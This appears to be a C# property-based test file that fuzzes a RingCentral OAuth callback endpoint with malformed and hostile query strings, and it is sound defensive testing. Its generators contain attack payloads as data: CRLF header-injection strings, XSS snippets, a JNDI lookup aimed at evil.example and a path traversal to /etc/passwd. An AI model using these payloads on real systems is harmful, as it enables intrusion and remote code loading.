using System.Buffers.Text;
using System.Text;
using CsCheck;
using Microsoft.AspNetCore.WebUtilities;
using Microsoft.Extensions.DependencyInjection;
using RingCentralOAuthFunctions.Endpoints;
using RingCentralOAuthFunctions.Fakes;
using RingCentralOAuthFunctions.OAuth;
using RingCentralOAuthFunctions.Protocol;
using RingCentralOAuthFunctions.State;
using RingCentralOAuthFunctions.Tests.Framework;

namespace RingCentralOAuthFunctions.Tests.PropertyBased;

/// <summary>
/// Generated callback query strings (missing and repeated parameters, huge values, broken percent-escapes, control
/// characters, header-injection attempts, <c>error</c> with any <c>error_description</c>, real and damaged states):
/// the answer is always a 302 to <c>OAuth:AppRedirectUrl</c>, either carrying one of <see cref="CallbackMessages.All"/>
/// or (a real state with a code-shaped value) a success whose only extra is a <c>#ticket=</c> fragment for that
/// state's user; the Callback itself stores nothing and calls nothing upstream, and no handler ever fails unexpectedly.
/// </summary>
public sealed class CallbackQueryPropertyTests : IAsyncLifetime
{
    private ServiceHost _host = null!;
    private StateKeyRing _ring = null!;

    public async Task InitializeAsync()
    {
        _host = await ServiceHost.StartAsync();
        _ring = await _host.App.Services.GetRequiredService<StateKeySource>().GetAsync(CancellationToken.None);
    }

    public async Task DisposeAsync() => await _host.DisposeAsync();

    private static readonly Gen<string> Printable = Gen.Char['!', '~'].Array[0, 40].Select(c => new string(c));

    private static readonly Gen<string> BrokenEscapes =
        Gen.OneOf("%", "%z", "%G1", "%%", "%u0041", "%e9", "%C3%28", "%ED%A0%80", "%F0%9F", "%0", "%%30%30", "%2", "+%", "%FF%FE")
            .Array[1, 5].Select(parts => string.Concat(parts));

    private static readonly Gen<string> ControlCharacters =
        Gen.OneOf("%00", "%0A", "%0D%0A", "%0D%0ALocation:%20https://evil.example/", "%0D%0ASet-Cookie:%20sb=1", "\r\n", "\0", "\u0085",
            "\u2028", "%7F", "\t", "%09", "%1B[31m", "\u202E").Array[1, 4].Select(parts => string.Concat(parts));

    private static readonly Gen<string> ProviderErrors =
        Gen.OneOf("access_denied", "server_error", "temporarily_unavailable", "invalid_request", "unauthorized_client", "invalid_scope",
            "unsupported_response_type", "ACCESS_DENIED", "access_denied%00", "access denied", "access_denied\n", "");

    private static readonly Gen<string> Hostile =
        Gen.OneOf("<script>alert(1)</script>", "javascript:alert(1)", "https://evil.example/", "//evil.example", "\"><img src=x onerror=alert(1)>",
            "Your account is locked, call +1-555-0100", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "%3Cscript%3E");

    private Gen<string> ValidState => Gen.Guid.Select(user =>
        _host.App.Services.GetRequiredService<StateProtector>().Seal(user, Pkce.CreateVerifier(), _ring));

    private Gen<string> DamagedState => Gen.Select(ValidState, Gen.Int.Positive, (state, position) =>
    {
        var bytes = Base64Url.DecodeFromChars(state);
        bytes[position % bytes.Length] ^= (byte)(1 + position % 255);
        return Base64Url.EncodeToString(bytes);
    });

    private Gen<string> Value(int hugeLimit) => Gen.Frequency<string>(
        (3, Gen.String[0, 30]),
        (3, Printable),
        (1, Gen.Char['!', '~'].Array[CallbackEndpoint.MaxCodeLength - 2, hugeLimit].Select(c => new string(c))),
        (2, BrokenEscapes),
        (2, ControlCharacters),
        (3, ValidState),
        (1, DamagedState),
        (2, ProviderErrors),
        (2, Hostile));

    private static readonly Gen<string> Name = Gen.Frequency<string>(
        (8, Gen.OneOf("code", "state", "error", "error_description", "error_uri")),
        (2, Gen.OneOf("Code", "STATE", "Error", "%73tate", "co%64e", "state%00", "state[]", "state ", " code", "error_description%0D%0A")),
        (1, Gen.String[0, 10]));

    /// <summary>A whole query string (without the '?'): 0 to 8 parameters, each well or badly formed, any of them repeated.</summary>
    private Gen<string> Query(int hugeLimit) =>
        Gen.Select(Name, Value(hugeLimit), Gen.Int[0, 9], Gen.Bool, (name, value, form, escape) =>
        {
            var v = escape ? Uri.EscapeDataString(value) : value;
            return form switch
            {
                0 => name,
                1 => "=" + v,
                2 => name + "=" + v + "=" + v,
                _ => name + "=" + v,
            };
        }).Array[0, 8].Select(Gen.OneOf("&", "&", "&", ";", "&&"), (pairs, separator) => string.Join(separator, pairs));

    /// <summary>The generated query as a client could put it on the wire: bytes outside visible ASCII (and '#') percent-encoded, broken escapes kept.</summary>
    private static string OnTheWire(string query)
    {
        var result = new StringBuilder();
        foreach (var b in Encoding.UTF8.GetBytes(query))
        {
            if (b is > 0x20 and < 0x7F && b != '#') result.Append((char)b);
            else result.Append('%').Append(b.ToString("X2", System.Globalization.CultureInfo.InvariantCulture));
        }

        return result.ToString();
    }

    private static void AssertFixedErrorRedirect(Answer answer)
    {
        Assert.Equal(302, answer.Status);
        var location = answer.Header("Location")!;
        Assert.StartsWith(ServiceHost.AppRedirectUrl + "?", location, StringComparison.Ordinal);
        var query = QueryHelpers.ParseQuery(new Uri(location).Query);
        Assert.Equal(["integration", "message", "status"], query.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("error", query["status"]);
        Assert.Equal("ringcentral", query["integration"]);
        Assert.Contains(query["message"].ToString(), CallbackMessages.All);
        Assert.Contains("no-store", answer.Header("Cache-Control"));
        Assert.Equal("no-referrer", answer.Header("Referrer-Policy"));
    }

    /// <summary>
    /// A fixed error redirect, or a success: exactly <c>status=success&amp;integration=ringcentral</c> and a ticket in
    /// the fragment that opens (it names the state's user). Returns the ticket of a success, else null.
    /// </summary>
    private CompleteTicket? AssertFixedRedirect(Answer answer)
    {
        var location = answer.Header("Location");
        if (answer.Status != 302 || location is null || !location.Contains("status=success", StringComparison.Ordinal))
        {
            AssertFixedErrorRedirect(answer);
            return null;
        }

        var uri = new Uri(location);
        Assert.StartsWith(ServiceHost.AppRedirectUrl + "?status=success&integration=ringcentral#ticket=", location, StringComparison.Ordinal);
        Assert.Equal(["integration", "status"], QueryHelpers.ParseQuery(uri.Query).Keys.Order(StringComparer.Ordinal));
        Assert.Contains("no-store", answer.Header("Cache-Control"));
        Assert.Equal("no-referrer", answer.Header("Referrer-Policy"));
        var tickets = _host.App.Services.GetRequiredService<TicketProtector>();
        Assert.Equal(EnvelopeRejection.None, tickets.TryOpen(uri.Fragment["#ticket=".Length..], _ring, out var ticket));
        return ticket;
    }

    /// <summary>After any number of hostile callbacks: nothing stored, no token issued, no handler crashed.</summary>
    private void AssertNothingHappened()
    {
        Assert.Equal(0, _host.Supabase.RowCount(FakeSupabase.TokensTable));
        Assert.Equal(0, _host.Supabase.RowCount(FakeSupabase.ConnectionsTable));
        // A hostile code may reach RingCentral at Complete (its flow is claimed, then recorded failed); nothing is saved.
        Assert.Empty(_host.Supabase.RequestsTo("POST", "/rest/v1/rpc/ringcentral_oauth_save"));
        Assert.Empty(_host.RingCentral.Issued);
        Assert.DoesNotContain(_host.Logs.GetSnapshot(), r => r.Id.Name == "UnexpectedError");
    }

    [Fact]
    public async Task Generated_callback_queries_run_in_process_always_redirect_with_a_fixed_message()
    {
        var endpoint = _host.App.Services.GetRequiredService<CallbackEndpoint>();
        var successes = 0;
        await Query(hugeLimit: 20_000).SampleAsync(async query =>
        {
            var context = InProcess.Context(_host.App.Services, "GET", "/api/ringcentral/callback", query);
            if (AssertFixedRedirect(await InProcess.RunAsync(context, endpoint.HandleAsync)) is not null) Interlocked.Increment(ref successes);
        }, iter: 3_000);

        AssertNothingHappened();
        Assert.Empty(_host.RingCentral.RequestsTo("POST", "/restapi/oauth/token"));
        // Generated states that opened, with a code-shaped value, reached the ticket: the deep path ran too.
        Assert.True(successes > 0);
    }

    [Fact]
    public async Task Generated_callback_queries_over_http_always_redirect_with_a_fixed_message()
    {
        await Query(hugeLimit: 3_000).Select(OnTheWire).Where(q => q.Length < 7_000).SampleAsync(async query =>
            AssertFixedRedirect(await RawHttp.SendAsync(_host.BaseUrl, "GET", "/api/ringcentral/callback?" + query)),
            iter: 300);

        AssertNothingHappened();
    }

    [Theory]
    [InlineData("error=access_denied&error_description=%3Cscript%3E", CallbackMessages.Cancelled)]
    [InlineData("error=server_error&error_description=Call%20%2B1-555-0100%20to%20unlock", CallbackMessages.ProviderUnavailable)]
    [InlineData("error=access_denied&error=access_denied", CallbackMessages.Denied)]
    [InlineData("state=a&state=b&code=c", CallbackMessages.InvalidState)]
    [InlineData("code=%0D%0ALocation:%20https://evil.example/&state=x", CallbackMessages.InvalidState)]
    public async Task Selected_hostile_queries_map_to_the_expected_fixed_message(string query, string message)
    {
        var answer = await RawHttp.SendAsync(_host.BaseUrl, "GET", "/api/ringcentral/callback?" + query);

        AssertFixedErrorRedirect(answer);
        Assert.Equal(message, QueryHelpers.ParseQuery(new Uri(answer.Header("Location")!).Query)["message"]);
        Assert.DoesNotContain("evil", answer.Header("Location"), StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_valid_state_with_a_hostile_code_is_refused_by_the_callback_or_by_ringcentral_at_complete_and_stores_nothing()
    {
        var endpoint = _host.App.Services.GetRequiredService<CallbackEndpoint>();
        var codes = Gen.OneOf<string>(ControlCharacters, BrokenEscapes, Hostile, Printable.Where(p => p.Length > 0),
            Gen.Char['a', 'z'].Array[CallbackEndpoint.MaxCodeLength + 1, 10_000].Select(c => new string(c)));
        var completed = 0;

        await codes.SampleAsync(async code =>
        {
            var user = Guid.NewGuid(); // one user per case: Complete's per-user limit is not what is tested here
            var state = _host.App.Services.GetRequiredService<StateProtector>().Seal(user, Pkce.CreateVerifier(), _ring);
            var context = InProcess.Context(_host.App.Services, "GET", "/api/ringcentral/callback",
                $"state={Uri.EscapeDataString(state)}&code={Uri.EscapeDataString(code)}");
            var answer = await InProcess.RunAsync(context, endpoint.HandleAsync);
            if (AssertFixedRedirect(answer) is { } ticket)
            {
                Assert.Equal(user, ticket.UserId);
                Assert.Equal(code, ticket.Code);
                var complete = await _host.CompleteAsync(user, new Uri(answer.Header("Location")!).Fragment["#ticket=".Length..]);
                Assert.Equal(System.Net.HttpStatusCode.BadRequest, complete.StatusCode);
                Assert.Equal(CallbackMessages.Rejected, complete.Error);
                Interlocked.Increment(ref completed);
            }
            else
            {
                Assert.Equal(CallbackMessages.MissingCode, QueryHelpers.ParseQuery(new Uri(answer.Header("Location")!).Query)["message"].ToString());
            }
        }, iter: 300);

        AssertNothingHappened();
        Assert.Equal(completed, _host.RingCentral.RequestsTo("POST", "/restapi/oauth/token").Count());
    }

    [Theory]
    [InlineData("%20")]
    [InlineData("+")]
    [InlineData("%C2%A0")]
    [InlineData("%E2%80%A8")]
    public async Task A_valid_state_with_a_whitespace_only_code_is_missing_code_not_an_unexpected_error(string code)
    {
        var state = _host.App.Services.GetRequiredService<StateProtector>().Seal(Guid.NewGuid(), Pkce.CreateVerifier(), _ring);

        var answer = await RawHttp.SendAsync(_host.BaseUrl, "GET", $"/api/ringcentral/callback?state={Uri.EscapeDataString(state)}&code={code}");

        AssertFixedErrorRedirect(answer);
        Assert.Equal(CallbackMessages.MissingCode, QueryHelpers.ParseQuery(new Uri(answer.Header("Location")!).Query)["message"]);
        AssertNothingHappened();
        Assert.Empty(_host.RingCentral.RequestsTo("POST", "/restapi/oauth/token"));
    }
}
